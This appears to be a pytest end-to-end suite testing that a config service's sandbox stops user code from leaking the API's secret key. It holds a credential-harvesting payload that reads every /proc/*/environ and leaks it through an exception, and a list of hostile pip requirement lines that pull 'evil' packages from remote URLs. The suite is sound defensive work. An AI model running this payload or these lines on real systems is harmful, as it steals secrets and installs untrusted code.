"""The escape suite, API side: plans, dry-runs and import checks run config code too (when a
draft is checked, published or imported), so the same attacks go through them.

The old admin takeover: a module that raises at import time with the API's environment
(``/proc/<parent>/environ``, holding ADE_SECRET_KEY) in its message, which the API then put
in its 400 answer.
"""

from __future__ import annotations

import io
import json
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from ade_cli.testing_stack import Stack, stack_env, start_stack
from ade_engine.scaffold import example_files

pytestmark = [pytest.mark.e2e, pytest.mark.escape]

SECRET = "escape-suite-api-secret-0123456789abcdef"

# Reads every environment it can find and raises with what it read.
STEAL_AT_IMPORT = """
import glob, os
stolen = [repr(dict(os.environ))]
for path in ["/proc/self/environ", f"/proc/{os.getppid()}/environ", *glob.glob("/proc/*/environ")]:
    try:
        stolen.append(open(path, "rb").read().decode(errors="replace"))
    except OSError as exc:
        stolen.append(f"{path}: {type(exc).__name__}")
raise RuntimeError("stolen: " + " | ".join(stolen))
"""


@pytest.fixture(scope="module")
def stack(sandbox_root: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    root = tmp_path_factory.mktemp("escape-api")
    env = stack_env(
        root,
        ADE_SECRET_KEY=SECRET,
        ADE_SANDBOX_DIR=str(sandbox_root / "escape-api"),
        ADE_SANDBOX_TIMEOUT_SECONDS="20",
        ADE_SANDBOX_MEMORY_MB="600",
    )
    with start_stack(root, env) as running:
        yield running


def assert_no_secret(answer: httpx.Response) -> None:
    assert SECRET not in answer.text
    assert "ADE_SECRET_KEY" not in answer.text
    assert "ADE_STORAGE_DATA_DIR" not in answer.text


def test_a_plan_cannot_read_the_apis_environment(stack: Stack) -> None:
    cid = stack.create_config("steal-plan")
    saved = stack.put_file(cid, "columns/email.py", STEAL_AT_IMPORT, append=True)
    assert saved.status_code == 200, saved.text
    plan = stack.http.post(f"/workspaces/{stack.ws}/configs/{cid}/draft:plan")
    assert plan.status_code == 200, plan.text
    assert plan.json()["valid"] is False
    assert "stolen:" in plan.text  # the module ran, and what it could read is in the answer
    assert "/proc/self/environ: FileNotFoundError" in plan.text
    assert_no_secret(plan)
    published = stack.http.post(
        f"/workspaces/{stack.ws}/configs/{cid}/publish", json={"semver": "1.0.0"}
    )
    assert published.status_code == 400
    assert_no_secret(published)


def test_an_import_cannot_read_the_apis_environment(stack: Stack) -> None:
    files = example_files()
    files["columns/email.py"] = files["columns/email.py"] + STEAL_AT_IMPORT.encode()
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        for path, content in sorted(files.items()):
            zf.writestr(path, content)
    answer = stack.http.post(
        f"/workspaces/{stack.ws}/configs:import",
        data={"slug": "steal-import", "title": "steal"},
        files={"file": ("steal.zip", archive.getvalue(), "application/zip")},
    )
    assert answer.status_code == 400, answer.text
    assert "stolen:" in answer.text
    assert_no_secret(answer)


def test_a_dry_run_cannot_read_the_apis_environment(stack: Stack) -> None:
    cid = stack.create_config(
        "steal-dry-run",
        "def transform(*, values, logger, **_):\n"
        "    import glob\n"
        "    for path in glob.glob('/proc/*/environ') + ['/proc/self/environ']:\n"
        "        try:\n"
        "            logger.info('read', content=open(path).read())\n"
        "        except OSError as exc:\n"
        "            logger.info('refused', path=path, error=type(exc).__name__)\n"
        "    return values\n",
    )
    document = stack.upload()
    run = stack.http.post(
        f"/workspaces/{stack.ws}/configs/{cid}/draft:dry-run", json={"document_id": document}
    )
    assert run.status_code == 200, run.text
    assert run.json()["status"] == "succeeded", run.text
    assert "refused" in run.text
    assert '"read"' not in run.text
    assert_no_secret(run)


def test_the_api_starts_the_jail_with_an_empty_environment(stack: Stack) -> None:
    """While a plan runs, the process the API started (bubblewrap) has no environment."""
    cid = stack.create_config("slow-plan")
    saved = stack.put_file(cid, "columns/email.py", "import time\ntime.sleep(3)\n", append=True)
    assert saved.status_code == 200, saved.text
    answers: list[httpx.Response] = []
    planner = threading.Thread(
        target=lambda: answers.append(
            stack.http.post(f"/workspaces/{stack.ws}/configs/{cid}/draft:plan")
        )
    )
    planner.start()
    seen: dict[int, bytes] = {}
    deadline = time.monotonic() + 10
    while planner.is_alive() and time.monotonic() < deadline:
        for entry in Path("/proc").iterdir():
            if not entry.name.isdigit():
                continue
            try:
                argv = (entry / "cmdline").read_bytes().split(b"\0")
                if argv and argv[0].endswith(b"bwrap") and str(stack.root).encode() not in argv:
                    seen[int(entry.name)] = (entry / "environ").read_bytes()
            except OSError:
                continue
        time.sleep(0.05)
    planner.join()
    assert answers[0].status_code == 200, answers[0].text
    assert seen, "no jail was seen while the plan ran"
    assert set(seen.values()) == {b""}, json.dumps({k: v.decode() for k, v in seen.items()})


HOSTILE_REQUIREMENTS = [
    "--no-binary :all:",
    "-e ./evil",
    "-r other.txt",
    "--index-url http://127.0.0.1:9/simple",
    "--extra-index-url http://127.0.0.1:9/simple",
    "--find-links http://127.0.0.1:9/",
    "evil @ https://example.invalid/evil-1.0.tar.gz",
    "git+https://example.invalid/evil.git",
    "./evil",
    "/tmp/evil-1.0.tar.gz",
]


@pytest.mark.parametrize("line", HOSTILE_REQUIREMENTS)
def test_each_hostile_requirements_line_is_refused_with_its_line_number(
    stack: Stack, line: str
) -> None:
    cid = stack.create_config(f"req-{HOSTILE_REQUIREMENTS.index(line)}")
    saved = stack.put_file(cid, "requirements.txt", f"# our deps\nrequests==2.32.3\n{line}\n")
    assert saved.status_code == 400, saved.text
    problem = saved.json()
    assert problem["status"] == 400
    assert any(3 in error["loc"] for error in problem["errors"]), problem
    listing = stack.http.get(f"/workspaces/{stack.ws}/configs/{cid}/draft/files")
    paths = [item["path"] for item in listing.json()["items"]]
    assert "requirements.txt" not in paths  # nothing stored
